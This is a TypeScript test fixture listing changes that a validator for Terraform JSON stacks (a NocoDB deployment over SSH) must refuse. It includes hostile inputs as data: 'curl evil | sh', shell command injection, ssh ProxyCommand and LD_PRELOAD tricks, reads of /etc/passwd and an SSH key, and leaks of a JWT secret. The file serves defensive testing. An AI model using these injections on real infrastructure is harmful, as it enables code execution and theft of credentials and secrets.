import type { Block, LocalExec, Synthesized } from "../support/scope.js";

export type Stack = Synthesized & Record<string, Block>;

const site = (json: Stack) => json.resource.null_resource!.nocodb_site!;
const run = (json: Stack) => (site(json).provisioner as { "local-exec": LocalExec }[])[0]!;
const command = (edit: (command: string) => string) => (json: Stack) => {
  const exec = run(json)["local-exec"] as { command: string };
  exec.command = edit(exec.command);
};

const look = (edit: (command: string) => string) => (json: Stack) => {
  const program = json.data.external!.host_observed!.program as string[];
  program[2] = edit(program[2]!);
};

const leads = "is not as in the trusted stack: what decides where state and connection lead is merged first";
const programs = "null_resource.nocodb_site: runs something else than host scripts over the trusted SSH command";
const probe = "data.external.host_observed: runs something else than the probe";

/** What may not be in the JSON of a stack: in words, the change that brings it in, and what is told then. */
export const refused: readonly [string, (json: Stack) => void, string][] = [
  [
    "another resource type",
    (json) => Object.assign(json.resource, { local_file: { x: {} } }),
    "resource.local_file: is no resource type of the list",
  ],
  [
    "another data source",
    (json) => Object.assign(json.data, { http: { x: {} } }),
    "data.http: is no data source of the list",
  ],
  [
    "a second program at plan time",
    (json) => Object.assign(json.data.external!, { x: { program: ["sh", "-c", "id"] } }),
    "data.external.x: runs something else than the probe",
  ],
  ["another provider", (json) => Object.assign(json.provider, { local: [{}] }), `provider: ${leads}`],
  [
    "a provider from elsewhere",
    (json) => Object.assign(json.terraform.required_providers.null!, { source: "evil/null" }),
    `terraform: ${leads}`,
  ],
  ["another backend", (json) => Object.assign(json.terraform.backend, { http: {} }), `terraform: ${leads}`],
  [
    "another host",
    (json) => Object.assign(json.provider.docker![0]!, { host: "ssh://me@evil:22" }),
    `provider: ${leads}`,
  ],
  [
    "a module",
    (json) => Object.assign(json, { module: { x: { source: "evil" } } }),
    "module: is no section of a stack",
  ],
  ["an import", (json) => Object.assign(json, { import: [{}] }), "import: is no section of a stack"],
  ["another command", command(() => "curl evil | sh"), programs],
  ["a command behind the first", command((text) => `${text}; id`), programs],
  ["a command on a line of its own", command((text) => `${text}\nid`), programs],
  ["a command within the first", command((text) => text.replace("common.sh", "common.sh $(id)")), programs],
  ["a script from elsewhere", command((text) => text.replace("common.sh", "../../../x.sh")), programs],
  ["another program in the place of ssh", command((text) => text.replace("-- ssh", "-- /tmp/ssh")), programs],
  [
    "an option that starts a program",
    command((text) => text.replace("-o BatchMode=yes", "-o ProxyCommand=id")),
    programs,
  ],
  ["another command on the host", command((text) => text.replace("sudo -n sh -s", "id")), programs],
  ["an expression in a command", command((text) => text.replace("common.sh", '${"common.sh"}')), programs],
  ["an escaped expression behind which one stands", command((text) => `${text} $$\${"$"}{x}`), programs],
  ["another interpreter", (json) => Object.assign(run(json)["local-exec"], { interpreter: ["evil"] }), programs],
  ["another folder", (json) => Object.assign(run(json)["local-exec"], { working_dir: "/" }), programs],
  [
    "a variable that the shell or ssh would follow",
    (json) => Object.assign(run(json)["local-exec"].environment, { LD_PRELOAD: "x" }),
    programs,
  ],
  [
    "a provisioner of another kind",
    (json) => Object.assign(site(json), { provisioner: [{ "remote-exec": { inline: ["id"] } }] }),
    programs,
  ],
  [
    "a connection",
    (json) => Object.assign(site(json), { connection: { host: "evil" } }),
    "null_resource.nocodb_site: has a connection of its own",
  ],
  [
    "another probe",
    (json) => Object.assign(json.data.external!.host_observed!, { program: ["sh", "-c", "id"] }),
    probe,
  ],
  ["a command behind the probe", look((text) => `${text} | tee /tmp/x`), probe],
  ["an assignment in front of the probe", look((text) => `PATH=/tmp ${text}`), probe],
  ["a folder for the probe", (json) => Object.assign(json.data.external!.host_observed!, { working_dir: "/" }), probe],
  [
    "a file that it reads",
    (json) => Object.assign(json.output, { x: { value: '${file("/tmp/nocodb-ssh/id")}' } }),
    "output.x.value: reads a file that is no host script",
  ],
  [
    "a file under another name of the function",
    (json) => Object.assign(json.output, { x: { value: '${core::file("/etc/passwd")}' } }),
    "output.x.value: calls core::file(), which is no function of the list",
  ],
  [
    "a comment that hides what is called",
    (json) => Object.assign(json.locals, { x: '${file /* */ ("/etc/passwd")}' }),
    "locals.x: has a comment in an expression",
  ],
  [
    "a template from a file",
    (json) => Object.assign(json.locals, { x: ['${templatefile("/x", {})}'] }),
    "locals.x.0: calls templatefile(), which is no function of the list",
  ],
  [
    "a secret shown",
    (json) => Object.assign(json.output, { x: { value: "${nonsensitive(var.nocodb_jwt_secret)}" } }),
    "output.x.value: calls nonsensitive(), which is no function of the list",
  ],
  [
    "a file in a key",
    (json) => Object.assign(json.locals, { x: { '${file("/tmp/nocodb-ssh/id")}': 1 } }),
    "locals.x: reads a file that is no host script",
  ],
  [
    "a file below what is a comment elsewhere",
    (json) => Object.assign(json.locals, { x: { "//": '${file("/tmp/nocodb-ssh/id")}' } }),
    "locals.x.//: reads a file that is no host script",
  ],
  [
    "a program on the host in the place of the look",
    look((text) => text.replace("observe.sh --", "write-file.sh --")),
    probe,
  ],
  [
    "a program on the host in front of the look",
    look((text) => text.replace("observe.sh --", "restore-backup.sh observe.sh --")),
    probe,
  ],
  [
    "a list in the place of a resource",
    (json) => Object.assign(json.resource.null_resource!, { x: [{ provisioner: [] }] }),
    "resource.null_resource.x: is no object",
  ],
  [
    "a list in the place of resources",
    (json) => Object.assign(json.resource, { null_resource: [json.resource.null_resource] }),
    "resource.null_resource: is no object",
  ],
  [
    "files of the worker in a container",
    (json) => Object.assign(json.resource.docker_container!.nocodb_container!, { upload: [{}] }),
    "docker_container.nocodb_container.upload: would take files of this machine along",
  ],
  ...Object.entries<(json: Stack) => void>({
    "resource.null_resource.x.count": (json) =>
      Object.assign(json.resource.null_resource!, { x: { count: "${length(var.nocodb_jwt_secret)}" } }),
    "data.docker_network.backend_network.name": (json) =>
      Object.assign(json.data.docker_network!.backend_network!, { name: "${substr(local.nocodb_jwt_secret, 0, 9)}" }),
    "resource.docker_container.nocodb_container.restart": (json) =>
      Object.assign(json.resource.docker_container!.nocodb_container!, {
        restart: "${null_resource.nocodb_site.triggers.x}",
      }),
    "resource.null_resource.nocodb_site.lifecycle.precondition.0.condition": (json) =>
      Object.assign(site(json), {
        lifecycle: { precondition: [{ condition: '${substr(var.nocodb_jwt_secret, 0, 1) == "a"}' }] },
      }),
  }).map(([place, change]): [string, (json: Stack) => void, string] => [
    `a secret in ${place}`,
    change,
    `${place}: mentions a secret where it could be seen`,
  ]),
  [
    "an expression behind a percent sign, which becomes a quote and a command",
    look((text) => text.replace("INPUT_", `INPUT_x='%\${"\\u0027; id; \\u0027"}' INPUT_`)),
    probe,
  ],
];
